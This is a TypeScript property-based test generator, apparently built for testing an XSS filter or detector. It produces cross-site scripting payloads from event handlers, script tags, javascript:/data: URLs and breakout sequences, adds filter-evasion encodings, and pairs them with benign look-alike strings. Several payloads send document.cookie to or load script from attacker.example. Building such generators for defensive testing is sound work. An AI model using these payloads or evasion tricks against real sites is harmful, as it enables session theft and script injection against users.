// XSS variants built from the grammar of the attack: an HTML element or attribute breakout
// carrying script through an event handler, a script element, or a javascript:/data: URL,
// in varied case, quoting, separators and character encodings.
import fc from "fast-check";
import { mixCase, pick, seq } from "./positions.js";

const JS = pick([
  "alert(1)", "alert`1`", "confirm(document.domain)", "prompt(document.cookie)", "alert(String.fromCharCode(88,83,83))",
  "eval(atob('YWxlcnQoMSk='))", "fetch('//attacker.example/c?'+document.cookie)", "location='//attacker.example/?'+document.cookie",
  "top['al'+'ert'](1)", "window.onerror=alert;throw 1", "import('//attacker.example/x.js')", "new Image().src='//attacker.example/?c='+document.cookie",
  "document.write('<img src=//attacker.example/'+document.cookie+'>')", "self[`alert`](1)", "(confirm)(1)", "print()",
]);
const EVENTS = pick([
  "onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin", "onanimationstart", "onpointerenter",
  "onwheel", "onfocusin", "onblur", "onpageshow", "oninput", "onauxclick", "onmouseenter", "onscroll", "onstart", "onbeforeprint", "onkeydown",
]);
const TAGS = pick(["img", "svg", "body", "iframe", "details", "video", "audio", "input", "select", "textarea", "marquee", "object", "a", "div", "x", "math", "style", "button", "image", "frameset", "keygen", "isindex"]);
/** Between a tag name and an attribute, and between attributes. */
const SEP = pick([" ", "/", "\t", "\n", "\f", " /", "/x/", "  "]);
const QUOTE = pick(["", "\"", "'"]);
const EXTRA = pick(["", " src=x", " autofocus", " open", " tabindex=1", " id=x", " style=animation-name:x", " x=\">\""]);

/** `javascript:` written as browsers still accept it. */
const JS_SCHEME = pick([
  "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\tjavascript:", "javascript&colon;", "java&Tab;script:",
  "&#106;avascript:", "&#x6A;avascript:", "&#106avascript:", "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a", "&#0000106&#0000097vascript:",
  "jav&#x09;ascript:", "javas&#99;ript:", "j&#97;vascript&#58;", "\x01javascript:", "vbscript:",
]);

function handlerVector(): fc.Arbitrary<string> {
  return fc.tuple(TAGS, SEP, EXTRA, SEP, EVENTS, QUOTE, JS, fc.nat(), pick(["", ">", "//", " x>", "><!--"])).map(([tag, s1, extra, s2, ev, q, js, seed, end]) =>
    // an unquoted value runs to a blank or `>` (a `/` is part of it), so after one only a blank separates
    `<${mixCase(tag, seed)}${s1}${extra.trim() ? extra.trim() + (extra.includes("=") && !/[\t\n\f ]/.test(s2) ? " " : s2) : ""}${mixCase(ev, seed >> 3)}=${q}${js}${q}${end}`,
  );
}
function scriptVector(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.tuple(JS, fc.nat()).map(([js, seed]) => `<${mixCase("script", seed)}>${js}</${mixCase("script", seed >> 2)}>`),
    fc.tuple(pick(["//attacker.example/x.js", "https://attacker.example/x", "data:,alert(1)"]), fc.nat(), pick(["", "</script>"])).map(([src, seed, end]) => `<${mixCase("script", seed)} src=${src}>${end}`),
  );
}
function urlVector(): fc.Arbitrary<string> {
  const url = fc.oneof(
    fc.tuple(JS_SCHEME, JS).map(([s, js]) => s + js),
    pick(["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"]),
  );
  return fc.tuple(pick(["a href", "iframe src", "form action", "object data", "embed src", "base href", "button formaction", "svg><a xlink:href", "math><maction actiontype=statusline xlink:href", "frame src", "meta http-equiv=refresh content=0;url"]), QUOTE, url, fc.nat()).map(
    ([tagAttr, q, u, seed]) => `<${mixCase(tagAttr, seed)}=${q}${u}${q}>click</a>`,
  );
}
/** Closing the attribute or element the value lands in, then a vector. */
function breakout(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.tuple(pick(["\">", "'>", ">", "\"/>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"></a>", "'\">"]), fc.oneof(handlerVector(), scriptVector())).map(([b, v]) => b + v),
    fc.tuple(pick(["\"", "'"]), SEP, EVENTS, JS, fc.nat(), pick(["", " x=\"", " autofocus x='", "//"])).map(([q, s, ev, js, seed, tail]) => `${q}${s === "/" ? " " : s}${mixCase(ev, seed)}=${js}${tail}`),
    fc.tuple(pick(["';", "\";", "'-", "\"-", "';//\n", "\\';", "'+"]), JS, pick(["//", ";//", "-'", ";'"])).map(([a, js, b]) => a + js + b),
  );
}

/** How the value is written on top of its grammar: as is, HTML-entity or URL encoded, JS escaped. */
function outerEncode(v: string, how: number): string {
  switch (how) {
    case 1: // percent-encoded angle brackets and quotes (the receiver URL-decodes twice)
      return v.replace(/[<>"']/g, (c) => "%" + c.charCodeAt(0).toString(16));
    case 2: // JS escapes of the markup, as written into a script string that reaches innerHTML (quotes stay: escaped ones close nothing)
      return v.replace(/[<>]/g, (c) => "\\u00" + c.charCodeAt(0).toString(16));
    case 3: // \x escapes
      return v.replace(/[<>]/g, (c) => "\\x" + c.charCodeAt(0).toString(16));
    case 4: // full-width brackets
      return v.replace(/</g, "＜").replace(/>/g, "＞");
    default:
      return v;
  }
}

export const xssAttack: fc.Arbitrary<string> = fc
  .tuple(fc.oneof(handlerVector(), scriptVector(), urlVector(), breakout()), fc.constantFrom(0, 0, 0, 1, 2, 3, 4))
  .map(([v, how]) => outerEncode(v, how));

/** Values that look like markup or script but carry none. */
export const xssBenign: fc.Arbitrary<string> = fc.oneof(
  pick([
    "Use <b>bold</b> and <i>italics</i> in your bio", "x < y && y > z", "See https://example.com/docs?a=1&b=2",
    "Contact me at jane.doe@example.org", "The onload event fires after the page loads", "javascript is my favourite language",
    "Our alert system confirms each order", "<p>Hello <a href=\"https://example.com\">world</a></p>", "data: 12, 15, 18", "if (a < b) { return a; }",
    "=> arrow functions are neat", "Tom & Jerry's \"best\" episode", "<br/>", "email <jane@example.org>", "rating: 4/5 -> great",
    "document the cookie policy before launch", "Prices: $5 < $10", "window cleaning on Tuesday", "prompt delivery, confirmed",
  ]),
  seq(pick(["I said ", "Note: ", "", "The "]), pick(["onload", "onclick", "alert", "script", "iframe", "svg"]), pick([" handler docs", " is discussed in chapter 3", "s are fun", " tag"])),
  fc.tuple(pick(["<b>", "<i>", "<em>", "<p>", "<ul><li>", "<code>"]), fc.string({ maxLength: 20, unit: fc.constantFrom(..."abcdefgh ijk.,") })).map(([t, s]) => `${t}${s}${t.replace("<", "</")}`),
);
